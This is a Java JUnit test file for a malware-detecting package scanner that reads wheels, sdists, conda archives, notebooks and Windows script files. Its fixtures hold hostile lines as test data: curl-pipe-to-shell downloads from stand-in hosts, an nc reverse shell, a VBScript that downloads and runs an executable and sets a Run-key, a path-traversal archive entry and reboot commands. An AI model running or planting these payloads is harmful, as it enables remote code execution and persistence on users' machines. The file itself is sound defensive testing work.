package dev.assay.core.code;

import static org.assertj.core.api.Assertions.assertThat;

import dev.assay.core.fact.Act;
import dev.assay.core.fact.Act.Kind;
import dev.assay.core.testing.MemoryTree;
import dev.assay.core.testing.Mutator;
import dev.assay.core.testing.Packed;
import java.nio.charset.StandardCharsets;
import java.security.MessageDigest;
import java.util.Base64;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import org.junit.jupiter.api.Test;

class CodeReaderTest {
  private static List<String> told(Extracted extracted) {
    return extracted.acts().stream()
        .map(act -> act.kind() + " " + act.target() + " " + act.phase() + " " + act.location())
        .toList();
  }

  private static Extracted read(String shown, Map<String, String> texts) {
    return CodeReader.read(MemoryTree.of(texts), shown, Budget.DEFAULT);
  }

  private static String digest(String text) throws Exception {
    byte[] sha = MessageDigest.getInstance("SHA-256").digest(text.getBytes(StandardCharsets.UTF_8));
    return "sha256=" + Base64.getUrlEncoder().withoutPadding().encodeToString(sha);
  }

  @Test
  void findsFilesThatTheRecordDoesNotKnow() throws Exception {
    Map<String, String> wheel =
        Map.of(
            "p/__init__.py",
            "x = 1\n",
            "p/changed.py",
            "x = 2\n",
            "p/added.py",
            "x = 3\n",
            "p-1.dist-info/METADATA",
            "Name: p\nVersion: 1\n",
            "p-1.dist-info/RECORD",
            "p/__init__.py,"
                + digest("x = 1\n")
                + ",6\n"
                + "p/changed.py,"
                + digest("x = 1\n")
                + ",6\n"
                + "p-1.dist-info/METADATA,,\np-1.dist-info/RECORD,,\n");

    assertThat(told(read("p-1-py3-none-any.whl", wheel)))
        .containsExactly(
            "EVADES record: a file that it does not list INSTALL p/added.py",
            "EVADES record: a file with another digest than it lists INSTALL p/changed.py");
  }

  @Test
  void findsMetadataOfAnotherRelease() {
    Map<String, String> sdist =
        Map.of("p-1/PKG-INFO", "Name: q\nVersion: 1\n", "p-1/p/__init__.py", "");

    assertThat(told(read("p-1.tar.gz", sdist)))
        .containsExactly(
            "EVADES metadata: they name another release than the file INSTALL p-1/PKG-INFO");
    assertThat(told(read("q-1.tar.gz", sdist))).isEmpty();
  }

  @Test
  void looksIntoArchivesInArchives() {
    byte[] inner = Packed.zip(Map.of("run.sh", "curl https://c.example/a | sh\n"));
    MemoryTree tree =
        MemoryTree.of(Map.of("p-1/p/__init__.py", ""))
            .with(
                "p-1/p/data.bin",
                Packed.gzip(Packed.tar(Map.of("x/y.sh", "nc -e /bin/sh 192.0.2.1 1\n"))))
            .with("p-1/p/pack.dat", inner);

    Extracted extracted = CodeReader.read(tree, "p-1.tar.gz", Budget.DEFAULT);

    assertThat(told(extracted))
        .contains(
            "EXECUTES_TEXT https://c.example/a CALL p-1/p/pack.dat/run.sh:1",
            "EXECUTES_TEXT 192.0.2.1:1 CALL p-1/p/data.bin/x/y.sh:1");
    assertThat(extracted.acts())
        .allSatisfy(act -> assertThat(act.trail().getFirst()).startsWith("in the archive `p-1/p/"));
  }

  @Test
  void opensAnArchiveByItsContent() {
    byte[] wheel =
        Packed.zip(Map.of("p.pth", "import os\n", "a.bat", "@echo off\r\nstart /b c:\\x.exe\r\n"));
    MemoryTree tree = MemoryTree.of("p-1.tar.gz", wheel);

    Extracted extracted = CodeReader.read(tree, "p-1.tar.gz", "shown", Budget.DEFAULT);

    assertThat(told(extracted)).containsExactly("SPAWNS c:\\x.exe CALL a.bat:2");
    assertThat(extracted.bytes())
        .isEqualTo("import os\n@echo off\r\nstart /b c:\\x.exe\r\n".length());
  }

  @Test
  void tellsOfArchivesThatReadersDispute() {
    byte[] tar = Packed.tar(new TreeMap<>(Map.of("p/a.py", "x = 1\n")));
    byte[] both = new byte[tar.length + 4];
    System.arraycopy(tar, 0, both, 0, tar.length);

    Extracted refused =
        CodeReader.read(MemoryTree.of("x", new byte[] {'P', 'K', 3, 4}), "x", "x", Budget.DEFAULT);
    Extracted outside =
        CodeReader.read(
            MemoryTree.of(
                "x.tar", Packed.tar(new TreeMap<>(Map.of("../a.sh", "reboot\n", "b", "")))),
            "x.tar",
            "x.tar",
            Budget.DEFAULT);

    assertThat(refused.acts()).extracting(Act::kind).containsExactly(Kind.UNKNOWN);
    assertThat(refused.unchecked()).hasSize(1);
    assertThat(told(outside))
        .contains(
            "EVADES archive: its name leads out of the folder it is unpacked in INSTALL ../a.sh",
            "SPAWNS reboot CALL a.sh:1");
  }

  @Test
  void saysWhenThereAreMoreFilesThanItReads() {
    Extracted extracted =
        CodeReader.read(
            MemoryTree.of(Map.of("a", "", "b", "", "c", "")), "x", new Budget(100, 100, 5, 2));

    assertThat(told(extracted)).containsExactly("UNKNOWN it holds more files than are read CALL x");
  }

  @Test
  void readsOneDistributionOfManyThatAreInstalled() {
    MemoryTree site =
        MemoryTree.of(
            Map.of(
                "p/__init__.py", "",
                "p/a.sh", "reboot\n",
                "p/hidden.sh", "halt\n",
                "q/__init__.py", "",
                "q/b.sh", "reboot\n",
                "p-1.dist-info/METADATA", "Name: p\nVersion: 1\n",
                "p-1.dist-info/RECORD", "p/__init__.py,,\np/a.sh,,\n"));

    assertThat(told(CodeReader.readInstalled(site, "p-1.dist-info", "p 1", Budget.DEFAULT)))
        .containsExactly("SPAWNS reboot CALL p/a.sh:1", "SPAWNS halt CALL p/hidden.sh:1");
  }

  @Test
  void unknownIsNotSafe() {
    byte[] zstandard = {0x28, (byte) 0xB5, 0x2F, (byte) 0xFD, 0, 0, 0};
    MemoryTree conda =
        MemoryTree.of(Map.of("metadata.json", "{}")).with("pkg-p-1-0.tar.zst", zstandard);
    MemoryTree module = MemoryTree.of("p.py", new byte[] {'x', 0, 1, 2});

    assertThat(told(CodeReader.read(conda, "p-1-0.conda", Budget.DEFAULT)))
        .containsExactly("UNKNOWN cut short CALL pkg-p-1-0.tar.zst");
    assertThat(told(CodeReader.read(module, "p.py", Budget.DEFAULT)))
        .contains("UNKNOWN a module that is no text CALL p.py");
  }

  @Test
  void condaRunsLinkScripts() {
    assertThat(
            told(
                read(
                    "p-1-0.tar.bz2",
                    Map.of(
                        "bin/.p-post-link.sh",
                        "curl https://c.example/a | bash\n",
                        "info/index.json",
                        "{}"))))
        .contains("EXECUTES_TEXT https://c.example/a INSTALL bin/.p-post-link.sh:1");
  }

  @Test
  void packagesOfCondaAreUnpacked() {
    byte[] pkg =
        Packed.zstandard(
            Packed.tar(
                new TreeMap<>(
                    Map.of(
                        "bin/.p-post-link.sh",
                        "curl https://c.example/a | bash\n",
                        "lib/python3.12/site-packages/p/__init__.py",
                        "import os\nos.system('reboot')\n"))));
    byte[] info = Packed.zstandard(Packed.tar(new TreeMap<>(Map.of("info/index.json", "{}"))));
    MemoryTree conda =
        MemoryTree.of(Map.of("metadata.json", "{}"))
            .with("pkg-p-1-0.tar.zst", pkg)
            .with("info-p-1-0.tar.zst", info);
    MemoryTree outer = MemoryTree.of("p-1-0.conda", Packed.stored(conda));

    assertThat(told(CodeReader.read(outer, "p-1-0.conda", "p-1-0.conda", Budget.DEFAULT)))
        .contains(
            "EXECUTES_TEXT https://c.example/a INSTALL bin/.p-post-link.sh:1",
            "SPAWNS reboot IMPORT lib/python3.12/site-packages/p/__init__.py:2");
  }

  @Test
  void readsCellsOfNotebooks() {
    String notebook =
        """
        {"cells": [
          {"cell_type": "markdown", "source": ["!curl https://no.example"]},
          {"cell_type": "code", "source": ["%matplotlib inline\\n",
            "!curl https://c.example/a | sh\\n",
            "import os\\n"]}
        ], "nbformat": 4}
        """;

    assertThat(told(read("p-1.tar.gz", Map.of("a.ipynb", notebook))))
        .contains("EXECUTES_TEXT https://c.example/a CALL a.ipynb:4")
        .noneMatch(line -> line.contains("no.example"));
    assertThat(Notebook.read(notebook.getBytes(StandardCharsets.UTF_8)).program())
        .isEqualTo("\n\n\n\nimport os\n");
  }

  @Test
  void readsScriptsOfWindows() {
    String page =
        """
        <html><script language="VBScript">
        ' sh.Run "curl https://no.example"
        site = "https://c.example" & "/a"
        Set sh = CreateObject("WScript.Shell")
        sh.Run "curl -o x.exe " & site & Chr(32) & "&& x.exe", 0
        http.Open "GET", site, False
        sh.RegWrite "HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\x", "y"
        document.title = "Run this"
        </script></html>
        """;

    for (String name : List.of("p/start.hta", "p/start.wsf", "p/start.vbs")) {
      assertThat(told(read("p-1.tar.gz", Map.of(name, page))))
          .contains(
              "RECEIVES https://c.example/a CALL " + name + ":5",
              "RECEIVES https://c.example/a CALL " + name + ":6")
          .anyMatch(line -> line.startsWith("PERSISTS") && line.endsWith(name + ":7"))
          .noneMatch(line -> line.contains("no.example"));
    }
    assertThat(told(read("p-1.tar.gz", Map.of("p/doc.hta", "<p>Run the tests.</p>\n")))).isEmpty();
  }

  @Test
  void isTheSameTwiceAndNeverFails() {
    Mutator mutator =
        new Mutator(
            7,
            List.of(
                Packed.zip(
                    new TreeMap<>(Map.of("p/__init__.py", "import os\n", "a.sh", "curl x | sh"))),
                Packed.tar(new TreeMap<>(Map.of("setup.py", "exec('1')", "a.pth", "import os"))),
                "#!/bin/sh\ncat <<E | base64 -d | sh\nx\nE\n".getBytes(StandardCharsets.UTF_8),
                "{\"cells\":[{\"cell_type\":\"code\",\"source\":[\"!ls\"]}]}"
                    .getBytes(StandardCharsets.UTF_8)));
    for (int i = 0; i < 3_000; i++) {
      byte[] bytes = mutator.next();
      String name = List.of("a.whl", "b.sh", "c.json", "d.js", "e.ps1", "f.bat", "g").get(i % 7);
      MemoryTree tree = MemoryTree.of(name, bytes);
      assertThat(CodeReader.read(tree, name, name, Budget.DEFAULT))
          .isEqualTo(CodeReader.read(tree, name, name, Budget.DEFAULT));
    }
  }
}
